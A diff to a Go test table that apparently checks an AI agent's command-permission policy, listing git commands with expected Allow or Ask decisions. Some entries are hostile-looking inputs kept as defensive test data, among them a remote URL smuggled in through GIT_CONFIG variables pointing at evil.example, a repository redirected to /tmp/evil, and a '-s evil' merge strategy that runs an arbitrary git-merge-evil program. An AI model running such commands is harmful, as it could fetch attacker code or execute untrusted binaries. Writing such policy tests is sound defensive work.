@@ -118,6 +118,13 @@ func TestEverydayReads(t *testing.T) {
 		{"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.origin.url GIT_CONFIG_VALUE_0=https://evil.example git fetch origin", Ask, ""},
 		{"git --git-dir=/tmp/evil/.git fetch origin", Ask, ""},
 		{"git -C /tmp/evil fetch origin", Ask, ""},
+		{"git fetch --set-upstream origin main", Ask, "network"},
+		{"git pull -s evil origin main", Ask, "git-merge-evil"},
+		{"git merge -s evil origin/main", Ask, "git-merge-evil"},
+		{"git pull -s ort -X theirs origin main", Allow, "git pull reads the repository's remote origin"},
+		{"git status -s", Allow, "only reads"},
+		{"git commit -s -m fix", Allow, "edits the project"},
+		{"git shortlog -sn", Allow, "only reads"},
 		{"git push origin main", Ask, ""},
 	} {
 		d := p.Decide(&Request{Tool: "Bash", Args: map[string]any{"command": c.cmd}, Cwd: "/home/u/proj", Workspace: "/home/u/proj", Interactive: true})
